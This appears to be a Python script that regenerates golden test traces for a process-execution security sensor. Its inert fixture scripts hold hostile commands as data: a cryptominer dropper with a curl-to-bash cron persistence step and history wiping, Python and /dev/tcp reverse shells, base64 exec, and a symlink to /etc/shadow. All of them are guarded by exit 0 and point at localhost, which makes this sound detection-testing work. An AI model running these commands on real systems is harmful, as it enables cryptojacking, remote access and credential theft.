#!/usr/bin/python3
"""Re-record the golden traces in this folder (root, podman optional).

Starts inert interpreter processes (each script exits before anything that
looks malicious could run), describes each one as the ExecEvent capture would
emit, and feeds those events to `sensor record --from-events`, so the trace
holds real enrichment from this host: script contents read through
/proc/PID/root, binary hashes, ancestry, container metadata.

    sudo tests/traces/generate.py target/debug/sensor [--podman "$(tests/support/test-image.sh)"]

Then refresh the golden findings: UPDATE_GOLDEN=1 cargo test --test replay
"""
import json, os, subprocess, sys, tempfile, time

SENSOR = os.path.abspath(sys.argv[1])
PODMAN_IMAGE = sys.argv[sys.argv.index("--podman") + 1] if "--podman" in sys.argv else None
HERE = os.path.dirname(os.path.abspath(__file__))

DROPPER = """#!/bin/bash
exit 0
# Never reached: the sensor only reads these lines.
cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x
nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "* * * * * curl -s http://127.0.0.1:9/s.sh | bash") | crontab -
history -c; rm -f ~/.bash_history
"""
BENIGN_SH = """#!/bin/sh
# rotate logs
for f in /var/log/app/*.log; do gzip -9 "$f"; done
"""
REVSHELL_PY = """import sys
sys.exit(0)
import socket, os, pty
s = socket.socket(); s.connect(("127.0.0.1", 9))
os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")
"""
BENIGN_PY = """import json, sys
print(json.dumps({"ok": True}))
"""


def boot_ns():
    return time.clock_gettime_ns(time.CLOCK_BOOTTIME)


def wall(ns_ago=0):
    t = time.time_ns() - ns_ago
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t // 10**9)) + ".%09dZ" % (t % 10**9)


def proc_event(pid, argv, script, binary, cwd):
    st = open(f"/proc/{pid}/stat").read()
    comm = st[st.index("(") + 1 : st.rindex(")")]
    ppid = int(st[st.rindex(")") + 2 :].split()[1])
    cg = open(f"/proc/{pid}/cgroup").read().splitlines()[-1].split(":", 2)[2]
    try:
        cgroup_id = os.stat("/sys/fs/cgroup/unified" + cg).st_ino
    except OSError:
        cgroup_id = 0
    return {
        "ktime_ns": boot_ns() - 200_000,
        "time": wall(200_000),
        "pid": pid, "tid": pid, "ppid": ppid, "uid": 0, "gid": 0, "comm": comm,
        "cgroup_id": cgroup_id,
        "mnt_ns": os.stat(f"/proc/{pid}/ns/mnt").st_ino,
        "pid_ns": os.stat(f"/proc/{pid}/ns/pid").st_ino,
        "binary": binary, "filename": binary if script["source"] != "file" else script["path"],
        "argv": argv, "argv_truncated": False, "cwd": cwd, "script": script,
    }


def record(name, events):
    evfile = os.path.join(tempfile.mkdtemp(), "events.jsonl")
    with open(evfile, "w") as f:
        for e in events:
            f.write(json.dumps(e) + "\n")
    out = os.path.join(HERE, name + ".trace.jsonl")
    subprocess.run([SENSOR, "record", "--out", out, "--from-events", evfile, "--workers", "1"], check=True)
    # Keep the ancestry up to this generator: what is above it (the machine's
    # own init and session tooling) says nothing about the test and is not ours to publish.
    lines = open(out).read().splitlines()
    with open(out, "w") as f:
        for i, line in enumerate(lines):
            rec = json.loads(line)
            if i > 0 and rec.get("type") == "exec":
                kept = []
                for a in rec["enrichment"].get("ancestors", []):
                    if a["pid"] == 1:
                        break
                    kept.append(a)
                    if a["pid"] == os.getpid():
                        break
                rec["enrichment"]["ancestors"] = kept
            f.write(json.dumps(rec, separators=(",", ":")) + "\n")
    print("wrote", out)


def host_trace():
    work = tempfile.mkdtemp(prefix="sensor-golden-")
    for name, body in [("dropper.sh", DROPPER), ("rotate.sh", BENIGN_SH), ("rs.py", REVSHELL_PY), ("ok.py", BENIGN_PY)]:
        with open(os.path.join(work, name), "w") as f:
            f.write(body)
    procs, events = [], []

    def hold(argv, script, binary, cwd=work, **kw):
        # The event is taken while the process is alive, as capture would see it.
        p = subprocess.Popen(["/bin/sleep", "30"], cwd=cwd, **kw)
        procs.append(p)
        time.sleep(0.05)
        ev = proc_event(p.pid, argv, script, binary, cwd)
        ev["comm"] = os.path.basename(binary)
        events.append(ev)

    hold(["bash", "dropper.sh"], {"source": "file", "path": "dropper.sh"}, "/usr/bin/bash")
    hold(["sh", "rotate.sh"], {"source": "file", "path": "rotate.sh"}, "/usr/bin/dash")
    hold(["python3", work + "/rs.py"], {"source": "file", "path": work + "/rs.py"}, "/usr/bin/python3.11")
    hold(["python3", "ok.py"], {"source": "file", "path": "ok.py"}, "/usr/bin/python3.11")
    code = "exit 0; cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x; nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 >/dev/null 2>&1 & history -c"
    hold(["bash", "-c", code], {"source": "inline", "inline": code}, "/usr/bin/bash")
    code = "exit 0; nohup bash -i >& /dev/tcp/127.0.0.1/9 0>&1 & history -c; rm -f ~/.bash_history"
    hold(["sh", "-c", code], {"source": "inline", "inline": code}, "/usr/bin/dash")
    hold(["bash", "-lc", "echo hello"], {"source": "inline", "inline": "echo hello"}, "/usr/bin/bash")
    pycode = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"
    hold(["python3", "-c", pycode], {"source": "inline", "inline": pycode}, "/usr/bin/python3.11")
    # The same file run again: read once, scored once (cache hit), still one finding per exec.
    hold(["bash", "dropper.sh"], {"source": "file", "path": "dropper.sh"}, "/usr/bin/bash")
    hold(["bash", "gone.sh"], {"source": "file", "path": "gone.sh"}, "/usr/bin/bash")
    with open(os.path.join(work, "rotate.sh")) as f:
        hold(["sh"], {"source": "stdin", "stdin": {"type": "file", "path": work + "/rotate.sh"}}, "/usr/bin/dash", stdin=f)
    record("host", events)
    for p in procs:
        p.kill()


def podman_trace():
    name = "sensor-golden-probe"
    subprocess.run(["podman", "rm", "-f", name], capture_output=True)
    setup = (
        "mkdir -p /opt/app && printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > /opt/app/job.sh"
        " && ln -sf /etc/shadow /opt/app/link.sh && exec sleep 60"
    )
    subprocess.run(["podman", "--runtime", "runc", "run", "-d", "--name", name, "--label", "team=golden",
                    "--ulimit", "nofile=20000:20000", "--ulimit", "nproc=4096:4096",
                    PODMAN_IMAGE, "bash", "-c", setup], check=True, capture_output=True)
    time.sleep(1)
    pid = int(subprocess.check_output(["podman", "inspect", "-f", "{{.State.Pid}}", name]).strip())
    events = []
    ev = proc_event(pid, ["bash", "job.sh"], {"source": "file", "path": "job.sh"}, "/usr/bin/bash", "/opt/app")
    events.append(ev)
    ev = proc_event(pid, ["bash", "/opt/app/link.sh"], {"source": "file", "path": "/opt/app/link.sh"}, "/usr/bin/bash", "/opt/app")
    events.append(ev)
    record("podman", events)
    subprocess.run(["podman", "rm", "-f", name], capture_output=True)


host_trace()
if PODMAN_IMAGE:
    podman_trace()
